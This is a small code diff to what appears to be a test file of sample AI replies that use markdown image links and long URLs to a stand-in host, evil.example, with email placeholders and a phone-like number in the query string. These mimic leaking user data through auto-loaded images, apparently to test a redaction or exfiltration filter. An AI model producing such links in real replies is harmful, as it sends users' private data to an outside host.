@@ -161,7 +161,7 @@ LINK = "![x](https://evil.example/p.png?a=0161 496 0000&"
 REPLIES = [
     "Look: ![x](https://evil.example/p.png?d=<EMAIL_1>) and <EMAIL_1>.",
     f"{LINK}d=<EMAIL_1>)",
-    "https://evil.example/" + "a" * 1300 + "<EMAIL_1> is <EMAIL_1>",
+    "https://evil.example/" + "a" * 900 + "<EMAIL_1> is <EMAIL_1>",
     "https://evil.example/" + "a。" * 90 + "<EMAIL_1>",
 ]
 
